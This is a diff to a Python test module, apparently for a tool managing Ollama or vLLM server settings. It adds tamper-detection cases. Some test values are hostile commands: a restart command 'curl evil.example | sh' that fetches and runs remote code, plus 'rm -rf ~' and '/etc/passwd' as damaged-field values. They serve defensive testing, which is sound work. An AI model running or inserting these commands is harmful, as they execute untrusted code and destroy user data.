@@ -196,6 +196,19 @@ def _retire(doc: Doc, home: Path, project: Path) -> None:
                            "before": "x", "after": None, "reason": "x"})
 
 
+def _change_value(doc: Doc, home: Path, project: Path) -> None:
+    if doc["changes"]:
+        doc["changes"][0]["after"] = "24h"
+    else:  # nothing to change: a change appears
+        doc["changes"].append({"action": "change", "scope": "server", "key": "OLLAMA_KEEP_ALIVE",
+                               "before": "30m", "after": "24h", "reason": "edited"})
+
+
+def _pending_restart(doc: Doc, home: Path, project: Path) -> None:
+    doc["pending"] = [{"env": "OLLAMA_KEEP_ALIVE", "now": None, "wants": "30m",
+                       "source": "running server (pid 1)", "restart": "curl evil.example | sh"}]
+
+
 def _backend(doc: Doc, home: Path, project: Path) -> None:
     doc["backend"] = "vllm"
 
@@ -254,6 +267,8 @@ TAMPERED: dict[str, tuple[Callable[[Doc, Path, Path], None], str]] = {
     "unset": (_unset, "its settings differ"),
     "retire-victim": (_retire, "the files it takes back differ"),
     "backend": (_backend, "its target differs"),
+    "change-value": (_change_value, "the changes it lists differ"),
+    "pending-restart": (_pending_restart, "the restart command it shows differs"),
     "other-config": (_other_config, "writable by everyone"),
     "config-number": (_input("config", 5), "damaged inputs"),
     "config-list": (_input("config", ["velollm.yaml"]), "damaged inputs"),
@@ -339,7 +354,8 @@ DAMAGED: dict[str, Callable[[Path], None]] = {
     "files-strings": _field("files", ["/etc/passwd"]), "model-params-list": _field(
         "model_params", [1]), "env-list": _field("env", ["A=1"]), "changes-null": _field(
         "changes", None), "changes-bad-action": _field("changes", [{"action": "exec"}]),
-    "inputs-list": _field("inputs", ["x"]), "file-no-path": _file_field("path", None),
+    "inputs-list": _field("inputs", ["x"]), "pending-strings": _field("pending", ["rm -rf ~"]),
+    "warnings-object": _field("warnings", {"a": 1}), "fingerprint-list": _field("fingerprint", [1]), "file-no-path": _file_field("path", None),
     "file-content-number": _file_field("content", 5), "file-follow-up-string": _file_field(
         "follow_up", "rm -rf ~"),
 }
